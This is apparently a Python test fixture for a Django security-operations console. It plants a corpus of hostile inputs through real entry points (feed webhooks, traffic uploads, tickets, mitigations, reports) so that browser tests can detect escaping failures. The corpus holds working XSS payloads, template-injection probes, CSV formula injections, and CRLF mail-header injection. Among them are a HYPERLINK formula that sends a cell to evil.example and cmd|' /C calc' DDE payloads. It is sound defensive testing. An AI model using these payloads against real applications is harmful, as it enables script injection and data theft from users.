"""A hostile corpus, and a customer whose every attacker-written field is planted with it.

Each payload that could run script tries to set a marker on ``window`` whose name says which
field carried it and which trick it used (``window.__pwned_ua_svg``), so a browser test that
finds a marker knows exactly where escaping failed. Besides markup and script there are
template-injection probes (the text must come back literally, never evaluated), spreadsheet
formulas, over-long values, non-UTF-8 bytes, NULs and bidirectional overrides.

``plant(customer=..., engineer=..., senior=..., viewer=...)`` puts the corpus through the
real entry points an attacker (or a customer writing to us) reaches: the webhook of every
feed format, traffic samples uploaded through the service the upload page uses, tickets and
their customer-visible timeline, mitigations (a WAF rule and an exported IP list), lists,
silences, saved views and attack reports built from all of that, each report also mailed.
It returns a ``Planted`` with the objects (a ``World`` with the keys the isolation matrix's
URL builders expect) and the counts of payloads and fields planted.
"""

from __future__ import annotations

import io
import re
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import orjson
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from tests.security.builders import World

MARKER_PREFIX = "__pwned_"

# name -> template; {m} is the marker the payload tries to set.
SCRIPT_KINDS: dict[str, str] = {
    "script": "<script>window.{m}=1</script>",
    "img": '<img src=x onerror="window.{m}=1">',
    "svg": '"><svg onload=window.{m}=1>',
    "attr": "' onmouseover='window.{m}=1' autofocus onfocus='window.{m}=1' x='",
    "dattr": '" autofocus onfocus="window.{m}=1" x="',
    "textarea": "</textarea></title></style><script>window.{m}=1</script>",
    "jsurl": "javascript:window.{m}=1",
    "iframe": '<iframe srcdoc="<script>parent.{m}=1</script>"></iframe>',
    "mxss": '<noscript><p title="</noscript><img src=x onerror=window.{m}=1>">',
    "jsonbreak": "</script><script>window.{m}=1//",
    "plotly": '<a href="javascript:window.{m}=1">hover</a><b onmouseover=window.{m}=1>b</b>',
    "htmx": '<div hx-get="/" hx-on:htmx:load="window.{m}=1" hx-trigger="load">x</div>',
}
# Template engines that must never evaluate attacker text: the sentinels around each probe make
# "zz49zz" an unambiguous sign of evaluation, and the literal text a sign it was shown as written.
TEMPLATE_PROBES = ["zz{{7*7}}zz", "zz${7*7}zz", "zz#{7*7}zz", "zz<%= 7*7 %>zz", "zz{% debug %}zz", "zz{{ request }}zz"]
EVALUATED = ["zz49zz", "zz<WSGIRequest", "zz<ASGIRequest", "zz{'"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
ODD_TEXT = [
    "rtl \u202egnp.exe\u202c override",  # right-to-left override
    "nul\x00byte",
    "zero\u200bwidth\ufeffbom",
    "emoji \U0001f4a3 and CJK 攻撃",
    "replacement \ufffd char",
    "crlf\r\nBcc: attacker@evil.example\r\n\r\nheader injection",  # mail subjects, download names
]
NON_UTF8 = b"\xff\xfe\xc3\x28 <script>window.__pwned_bytes=1</script> \xa0\xa1 \xe2\x82"
LONG = 100 * 1024


def marker(tag: str, kind: str) -> str:
    return f"{MARKER_PREFIX}{tag}_{kind}"


def script_payloads(tag: str) -> list[str]:
    return [template.format(m=marker(tag, kind)) for kind, template in SCRIPT_KINDS.items()]


def payloads(tag: str) -> list[str]:
    """Every payload for one field: script attempts, template probes, formulas and odd text."""
    return [*script_payloads(tag), *TEMPLATE_PROBES, *FORMULAS, *ODD_TEXT]


def typed(tag: str) -> list[str]:
    """The payloads a person can type into a form or send to the API: Django's and DRF's
    text fields refuse NUL characters (ProhibitNullCharactersValidator) before any service
    sees them. What arrives by webhook or upload keeps them, and is planted with them."""
    return [p.replace("\x00", "") for p in payloads(tag)]


def long_value(tag: str, size: int = LONG) -> str:
    head = SCRIPT_KINDS["img"].format(m=marker(tag, "long"))
    return head + "A" * (size - len(head))


@dataclass
class Planted:
    world: World
    fields: dict[str, int] = field(default_factory=lambda: defaultdict(int))
    alerts: list[Any] = field(default_factory=list)
    attacks: list[Any] = field(default_factory=list)
    samples: list[Any] = field(default_factory=list)
    reports: list[Any] = field(default_factory=list)
    mitigations: list[Any] = field(default_factory=list)
    deliveries: list[Any] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)

    def count(self, name: str, n: int = 1) -> None:
        self.fields[name] += n

    @property
    def payload_count(self) -> int:
        return sum(self.fields.values())


def _rule_string(text: str) -> str:
    """A string literal of the rule language (double quotes, backslash escapes)."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


# --------------------------------------------------------------------------- alert feeds


def _feed(customer: Any, fmt: str, options: dict | None = None) -> tuple[Any, str]:
    from alerts.models import Feed

    feed = Feed(
        name=f"{fmt} feed <b>{SCRIPT_KINDS['img'].format(m=marker('feedname', fmt))}</b>"[:120],
        slug=f"hostile-{fmt}",
        format=fmt,
        customer=customer,
        options=options or {},
    )
    token = feed.set_secret()
    feed.save()
    return feed, token


def _post(client: Client, feed: Any, token: str, body: bytes, user_agent: str, planted: Planted) -> Any:
    """The webhook, over HTTP as a sender reaches it, with hostile request headers."""
    from alerts.models import Delivery

    response = client.post(
        feed.ingest_path(),
        data=body,
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
        HTTP_USER_AGENT=user_agent,
        HTTP_X_REQUEST_ID=SCRIPT_KINDS["svg"].format(m=marker("reqid", feed.format)),
        HTTP_X_FORWARDED_FOR='203.0.113.9, "><script>window.__pwned_xff=1</script>',
        HTTP_CF_RAY=FORMULAS[0],
    )
    assert response.status_code in (202, 400), (feed.format, response.status_code, response.content[:300])
    planted.count("delivery headers (user-agent, x-request-id, x-forwarded-for, cf-ray)", 4)
    delivery = Delivery.objects.get(pk=response.json()["delivery"])
    planted.deliveries.append(delivery)
    return delivery


def _plant_feeds(planted: Planted, customer: Any) -> None:
    from alerts.formats import examples

    client = Client()
    at = timezone.now() - timedelta(minutes=30)

    def ua(fmt: str, i: int) -> str:
        return script_payloads(f"ua_{fmt}")[i % len(SCRIPT_KINDS)]

    # Generic JSON: every mapped field of every record carries the payload of its index.
    feed, token = _feed(customer, "generic", {"defaults": {"layer": "L7"}})
    records = []
    for i, p in enumerate(payloads("generic")):
        records.append(
            {
                "title": p,
                "description": p + "\n" + TEMPLATE_PROBES[0],
                "target_host": p[:200],
                "zone": p[:200],
                "vector": p,
                "id": f"g{i}-{p}"[:100],
                "severity": "critical",
                "timestamp": examples.rfc3339(at + timedelta(seconds=i)),
                "src_ip": "198.18.0.7",
                "asn": p,
                "country": p,
                "rps": 1000 + i,
                f"label-{p}"[:150]: p,
            }
        )
    _post(client, feed, token, orjson.dumps(records), ua("generic", 0), planted)
    planted.count(
        "generic: title, description, host, zone, vector, id, asn, country, label key+value", 10 * len(records)
    )
    # One hundred kilobytes of title, description and label; and a user agent as long as a header may be.
    long = long_value("genericlong")
    _post(
        client,
        feed,
        token,
        orjson.dumps({"title": long, "description": long, "target_host": "long.example", "big": long}),
        long_value("ualong", 8000),
        planted,
    )
    planted.count("over-long title/description/label (100 KB) and user agent", 4)
    # Not JSON, not UTF-8: kept as a rejected delivery and shown as text.
    _post(client, feed, token, NON_UTF8 + b"{" + script_payloads("rawbody")[0].encode(), ua("generic", 1), planted)
    _post(
        client, feed, token, b'{"title": "bad \xff\xfe utf8 <script>window.__pwned_badjson=1</script>"}', "x", planted
    )
    _post(client, feed, token, orjson.dumps([{"no_title": p} for p in script_payloads("notitle")]), "x", planted)
    planted.count("raw delivery bodies (non-UTF-8, malformed, parse errors)", 3)

    # Cloudflare L4 and L7 notifications.
    feed, token = _feed(customer, "cloudflare")
    for i, p in enumerate(script_payloads("cloudflare")[:6]):
        body = examples.cloudflare_l7(
            hostname=f"h{i}.hostile.example", zone=p, attack_type=p, correlation_id=f"cf{i}", at=at
        )
        body["name"], body["text"] = p, p
        body["data"]["rule_description"] = p
        body["data"]["dashboard_link"] = f"javascript:window.{marker('cfdash', str(i))}=1"
        _post(client, feed, token, orjson.dumps(body), ua("cloudflare", i), planted)
    body = examples.cloudflare_l4(vector=script_payloads("cfvector")[0], correlation_id="cf-l4", at=at)
    _post(client, feed, token, orjson.dumps(body), ua("cloudflare", 9), planted)
    planted.count("cloudflare: name, text, zone, attack type, rule description, dashboard link, vector", 6 * 6 + 1)

    # Alertmanager: annotations, label names and values, instance.
    feed, token = _feed(customer, "alertmanager")
    entries = []
    for i, p in enumerate(payloads("alertmanager")):
        entry = examples.alertmanager_alert(
            alertname=p, summary=p, instance=p, zone=p, vector=p, fingerprint=f"am{i:04d}", starts_at=at
        )
        entry["annotations"]["description"] = p
        entry["annotations"]["runbook_url"] = f"javascript:window.{marker('runbook', str(i))}=1"
        entry["labels"][f"x_{i}"] = p
        entries.append(entry)
    _post(
        client, feed, token, orjson.dumps(examples.alertmanager_notification(*entries)), ua("alertmanager", 2), planted
    )
    planted.count(
        "alertmanager: alertname, summary, description, runbook, instance, zone, vector, label", 8 * len(entries)
    )

    # Suricata EVE: signature, category, HTTP hostname, URL, user agent, metadata.
    feed, token = _feed(customer, "suricata")
    events = []
    for i, p in enumerate(payloads("suricata")):
        event = examples.suricata_alert(
            signature=p, category=p, signature_id=2_200_000 + i, dest_port=80, app_proto="http", at=at
        )
        event["http"] = {"hostname": p, "url": "/" + p, "http_user_agent": p, "http_method": "GET", "status": 200}
        event["alert"]["metadata"] = {"tag": [p], p[:60]: ["x"]}
        events.append(event)
    _post(client, feed, token, examples.eve_lines(*events), ua("suricata", 3), planted)
    planted.count("suricata: signature, category, http hostname/url/user agent, metadata", 6 * len(events))

    # FastNetMon JSON callback and the notify script's text with non-UTF-8 bytes.
    feed, token = _feed(customer, "fastnetmon")
    for i, p in enumerate(script_payloads("fastnetmon")[:4]):
        body = examples.fastnetmon_json(ip=f"203.0.113.{50 + i}", attack_type=p, host_group=p, attack_uuid=f"fnm-{i}")
        body["packet_dump"].append(p)
        _post(client, feed, token, orjson.dumps(body), ua("fastnetmon", i), planted)
    text = examples.fastnetmon_text(attack_type=script_payloads("fnmtext")[0]).encode() + NON_UTF8 + b"\n"
    _post(client, feed, token, text, ua("fastnetmon", 5), planted)
    planted.count("fastnetmon: attack type, host group, packet dump, text body", 3 * 4 + 1)

    # CrowdSec: scenario, machine, AS name, target FQDN, message.
    feed, token = _feed(customer, "crowdsec")
    alerts = []
    for i, p in enumerate(script_payloads("crowdsec")):
        alert = examples.crowdsec_alert(
            scenario=p, machine_id=p[:60], as_name=p, target_fqdn=p, alert_uuid=f"cs-{i}", start=at
        )
        alert["message"] = p
        alerts.append(alert)
    _post(client, feed, token, orjson.dumps(alerts), ua("crowdsec", 4), planted)
    planted.count("crowdsec: scenario, machine, AS name, target, message", 5 * len(alerts))

    # Wazuh: rule description, full log, agent, location.
    feed, token = _feed(customer, "wazuh")
    lines = []
    for i, p in enumerate(script_payloads("wazuh")):
        lines.append(
            orjson.dumps(
                {
                    "timestamp": examples.rfc3339(at),
                    "id": f"wz-{i}",
                    "rule": {"level": 12, "description": p, "id": str(100200 + i), "groups": ["web", "attack"]},
                    "agent": {"id": f"{i:03d}", "name": p[:60]},
                    "manager": {"name": p[:60]},
                    "full_log": p + " " + FORMULAS[0],
                    "location": p,
                    "data": {"srcip": "198.18.0.9", "dstip": "203.0.113.10"},
                }
            )
        )
    _post(client, feed, token, b"[" + b",".join(lines) + b"]", ua("wazuh", 5), planted)
    planted.count("wazuh: rule description, agent, manager, full log, location", 5 * len(lines))


# --------------------------------------------------------------------------- traffic samples


def _logpush_lines(tag: str, n_hostile: int) -> list[dict]:
    from tests.traffic.gen import logpush_record

    start = timezone.now() - timedelta(minutes=20)
    out = []
    kinds = payloads(tag)
    for i in range(n_hostile):
        p = kinds[i % len(kinds)]
        record = logpush_record(
            ts=start + timedelta(seconds=i),
            ip=f"198.18.{i % 7}.{i % 250 + 1}",
            method="POST",
            uri="/" + p + "?q=" + p,
            proto="HTTP/1.1",
            status=403,
            ua=p,
            headers={"host": p, "user-agent": p, p[:80]: p, "x-" + str(i % 3): p, "cookie": f"{p[:40]}={p}"},
            cookies={p[:80]: p, "sid": p},
            ja3=p,
            ja4=p,
            bot_score=2,
        )
        record["ClientRequestHost"] = p
        record["ClientRequestReferer"] = p
        record["ClientCountry"] = p
        out.append(record)
    return out


def _benign_lines(n: int) -> list[dict]:
    from tests.traffic.gen import logpush_record

    start = timezone.now() - timedelta(days=1)
    return [
        logpush_record(
            ts=start + timedelta(seconds=i),
            ip=f"192.0.2.{i % 200 + 1}",
            method="GET",
            uri=f"/page/{i % 9}",
            proto="HTTP/2",
            status=200,
            ua="Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
            headers={"host": "hostile.example", "user-agent": "Mozilla/5.0", "accept": "*/*"},
            cookies={"_ga": f"GA1.2.{i}"},
            ja3="773906b0efdefa24a7f2b8eb6985bf37",
            ja4="",
            bot_score=90,
        )
        for i in range(n)
    ]


def _combined_lines(tag: str) -> bytes:
    lines = []
    for i, p in enumerate(payloads(tag)):
        quoted = p.replace('"', "%22")
        lines.append(
            f'198.18.1.{i + 1} - - [24/Nov/2026:10:00:{i % 60:02d} +0000] "GET /{quoted} HTTP/1.1" 404 12 '
            f'"{quoted}" "{quoted}"'.encode("utf-8", "replace")
        )
    lines.append(
        b'198.18.1.200 - - [24/Nov/2026:10:01:00 +0000] "GET /\xff\xfe HTTP/1.1" 200 1 "-" "' + NON_UTF8 + b'"'
    )
    lines.append(
        b'198.18.1.201 - - [24/Nov/2026:10:01:01 +0000] "GET / HTTP/1.1" 200 1 "-" "'
        + long_value("logua").encode()
        + b'"'
    )
    lines.append(b"\x00\x01 not a log line <script>window.__pwned_logline=1</script> \xff")
    return b"\n".join(lines) + b"\n"


def _upload(planted: Planted, *, customer: Any, user: Any, name: str, content: bytes, label: str, attack: Any) -> Any:
    from traffic import services as traffic_services
    from traffic.models import TrafficSample

    sample = traffic_services.sample_create(
        customer=customer,
        name=name,
        fileobj=SimpleUploadedFile(Path(name).name or "sample", content),
        label=label,
        attack=attack,
        user=user,
    )
    # The upload enqueues the parse after commit (eager in tests); parse again in case it was not.
    sample = traffic_services.sample_parse(sample_id=sample.pk) or sample
    sample.refresh_from_db()
    assert sample.status == TrafficSample.Status.READY, (name, sample.status, sample.errors)
    planted.samples.append(sample)
    return sample


def _plant_traffic(planted: Planted, customer: Any, user: Any, attack: Any) -> None:
    hostile = _logpush_lines("logpush", 400)
    body = b"".join(orjson.dumps(r) + b"\n" for r in hostile)
    body += (
        b'{"ClientIP": "198.18.9.9", "ClientRequestUserAgent": "\xff\xfe broken <script>window.__pwned_lp=1</script>\n'
    )
    body += b"not json at all <img src=x onerror=window.__pwned_lpline=1>\n"
    name = SCRIPT_KINDS["img"].format(m=marker("samplename", "logpush")) + ".jsonl"
    _upload(planted, customer=customer, user=user, name=name, content=body, label="attack", attack=attack)
    planted.count(
        "logpush: host, path, query, user agent, referer, country, header names/values, cookies, JA3, JA4",
        11 * len(hostile),
    )
    baseline = b"".join(orjson.dumps(r) + b"\n" for r in _benign_lines(400))
    _upload(
        planted, customer=customer, user=user, name="baseline.jsonl", content=baseline, label="baseline", attack=None
    )
    combined = _combined_lines("combined")
    _upload(planted, customer=customer, user=user, name="access.log", content=combined, label="attack", attack=attack)
    planted.count(
        "combined log: path, referer, user agent, non-UTF-8 and over-long lines", 3 * len(payloads("combined")) + 3
    )


# --------------------------------------------------------------------------- people's text


def _plant_tickets(planted: Planted, customer: Any, user: Any) -> Any:
    from tickets import services as ticket_services

    alerts = planted.alerts[:12]
    ps = typed("ticket")
    ticket = ticket_services.ticket_create_from_alerts(alerts=alerts, user=user, title=ps[0], summary="\n".join(ps))
    ticket_services.ticket_update(ticket=ticket, user=user, title=ps[2] + " " + TEMPLATE_PROBES[0])
    for p in typed("note"):
        ticket_services.ticket_add_note(ticket=ticket, body=p, user=user)
    for p in script_payloads("message")[:4] + TEMPLATE_PROBES[:2]:
        ticket_services.ticket_send_customer_message(
            ticket=ticket, user=user, subject=p, body=p + "\n" + FORMULAS[0], recipients=["soc@hostile.example"]
        )
    for p in script_payloads("contact")[:4]:
        ticket_services.ticket_log_contact(ticket=ticket, channel="phone", summary=p, contact=p[:100], user=user)
    ticket_services.ticket_escalate(ticket=ticket, level="l2", reason="\n".join(script_payloads("handoff")), user=user)
    planted.count("ticket title, summary", 2 + len(ps))
    planted.count("ticket notes", len(payloads("note")))
    planted.count("customer messages (subject, body)", 12)
    planted.count("contact logs (summary, contact)", 8)
    planted.count("escalation handoff", len(SCRIPT_KINDS))
    # A ticket opened by hand, as after a customer's phone call.
    ticket_services.ticket_create(customer=customer, title=ps[1], summary=ps[4], user=user)
    planted.count("ticket opened by hand", 2)
    return ticket


def _plant_mitigations(planted: Planted, customer: Any, user: Any, attack: Any, ticket: Any) -> tuple[Any, Any, Any]:
    from mitigations import services as mitigation_services
    from mitigations.rules import RuleError

    first = None
    made = 0
    for p in script_payloads("rule") + TEMPLATE_PROBES[:2]:
        try:
            m = mitigation_services.mitigation_create(
                customer=customer,
                kind="waf_rule",
                user=user,
                targets=["export"],
                expression=(
                    f"{mitigation_services.host_scope_clause(customer)} and (http.user_agent contains "
                    f"{_rule_string(p)} or http.request.uri.path eq {_rule_string('/' + p)})"
                ),
                action="block",
                ttl_seconds=3600,
                attack=attack,
                ticket=ticket,
                title=p,
            )
        except (RuleError, mitigation_services.MitigationError) as exc:
            planted.notes.append(f"rule refused {p!r}: {exc}")
            continue
        made += 1
        first = first or m
    assert first is not None, planted.notes
    planted.count("mitigation title, rule string literals", 3 * made)
    mlist = mitigation_services.list_create(
        name="hostile_list",
        purpose="block",
        user=user,
        customer=customer,
        description=script_payloads("listdesc")[0],
        source=script_payloads("listsrc")[1],
    )
    item = None
    for i, p in enumerate(typed("listitem")[:8]):
        item = mitigation_services.list_item_add(
            mitigation_list=mlist, value=f"198.51.100.{i + 1}", user=user, comment=p
        )
    planted.count("list description, source, item comments", 2 + 8)
    # The list blocked by a mitigation exported for every target: item comments reach Cloudflare's list.
    listed = mitigation_services.mitigation_create(
        customer=customer,
        kind="ip_list",
        user=user,
        targets=["export"],
        mitigation_list=mlist,
        action="block",
        ttl_seconds=3600,
        attack=attack,
        ticket=ticket,
        title=script_payloads("listmitigation")[0] + " " + FORMULAS[0],
    )
    planted.mitigations = [first, listed]
    planted.count("IP list mitigation title")
    return first, mlist, item


def plant(*, customer: Any, engineer: Any, senior: Any, viewer: Any) -> Planted:
    """Every attacker-controlled field of ``customer``'s world, planted through the real entry points."""
    from alerts import services as alert_services
    from alerts.models import Alert, AlertImport, Attack, SavedView
    from console.models import AuditEvent
    from console.services import api_token_create
    from mitigations.models import GlobalAllowlistEntry
    from reports import services as report_services
    from tickets.models import TicketTemplate

    planted = Planted(world=World(customer=customer))
    o = planted.world.objects
    _plant_feeds(planted, customer)
    for attack in Attack.objects.filter(customer=customer):
        alert_services.attack_summarize(attack_id=attack.pk)
    planted.attacks = list(Attack.objects.filter(customer=customer).order_by("pk"))
    planted.alerts = list(Alert.objects.filter(customer=customer).order_by("pk"))
    assert len(planted.alerts) > 50, len(planted.alerts)
    attack = max(planted.attacks, key=lambda a: a.alert_count)
    o["attack"] = attack
    o["alert"] = Alert.objects.filter(attack=attack).order_by("pk").first()
    o["feed"] = planted.deliveries[0].feed
    o["delivery"] = next(d for d in planted.deliveries if d.status == "rejected")

    _plant_traffic(planted, customer, engineer, attack)
    o["traffic_sample"], o["baseline_sample"] = planted.samples[0], planted.samples[1]
    o["ticket"] = ticket = _plant_tickets(planted, customer, engineer)
    o["mitigation"], o["mitigation_list"], o["list_item"] = _plant_mitigations(
        planted, customer, engineer, attack, ticket
    )

    now = timezone.now()
    for p in script_payloads("silence") + TEMPLATE_PROBES[:1]:
        o["silence"] = alert_services.silence_create(
            matchers=[{"field": "title", "op": "=", "value": p}, {"field": "label:x_1", "op": "!=", "value": p}],
            starts_at=now,
            ends_at=now + timedelta(hours=2),
            comment=p,
            user=engineer,
        )
    planted.count("silence comments and matcher values", 3 * (len(SCRIPT_KINDS) + 1))
    for p in script_payloads("savedview") + TEMPLATE_PROBES[:1]:
        SavedView.objects.create(owner=senior, name=p[:80], query="q=" + p[:900], shared=True)
    planted.count("saved view names and queries", 2 * (len(SCRIPT_KINDS) + 1))

    path = f"imports/{script_payloads('importname')[1]}.jsonl"
    o["alert_import"] = AlertImport.objects.create(
        feed=o["feed"], path=path, filename=script_payloads("importname")[0], error=script_payloads("importerr")[0]
    )
    planted.count("alert import file name and error", 2)

    reports = [
        report_services.report_request(user=engineer, attack=attack, enqueue=False),
        report_services.report_request(user=engineer, ticket=ticket, enqueue=False),
        report_services.report_request(
            user=engineer, customer=customer, start=(now - timedelta(days=1)).date(), end=now.date(), enqueue=False
        ),
    ]
    for i, report in enumerate(reports):
        report_services.report_generate(report_id=report.pk, pdf=i == 0)
        report.refresh_from_db()
        assert report.status == "done", report.error
    # An attack on a target a feed wrote with a line break: its report's title (and mail subject) carry it.
    crlf = next(a for a in planted.attacks if "\n" in a.target)
    reports.append(report_services.report_request(user=engineer, attack=crlf, enqueue=False))
    report_services.report_generate(report_id=reports[-1].pk, pdf=False)
    planted.reports = reports
    for report in reports:
        report.refresh_from_db()
        assert report.status == "done", report.error
        # Mailed as generated: the subject carries the title.
        sent = report_services.report_send(report=report, user=engineer, recipients=["soc@hostile.example"])
        assert sent == ["soc@hostile.example"], (report.title, sent)
    o["report"] = reports[0]
    o["share_link"], o["share_token"] = report_services.share_link_create(report=reports[0], user=engineer)

    o["viewer"] = viewer
    o["api_token"] = api_token_create(user=senior, name=script_payloads("tokenname")[0][:100]).token
    planted.count("API token name")
    o["asset"] = customer.assets.order_by("pk").first()
    o["audit_event"] = AuditEvent.objects.filter(customer=customer).order_by("-id").first()
    o["template"] = TicketTemplate.objects.order_by("pk").first()
    o["allowlist_entry"] = GlobalAllowlistEntry.objects.order_by("pk").first() or GlobalAllowlistEntry.objects.create(
        value="192.0.2.53", reason=script_payloads("allowreason")[0]
    )
    return planted


def customer_name() -> str:
    return "Hostile & Co " + SCRIPT_KINDS["img"].format(m=marker("customer", "name"))


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV a spreadsheet would run."""
    import csv

    number = re.compile(r"-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [
        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not number.fullmatch(c))
    ]
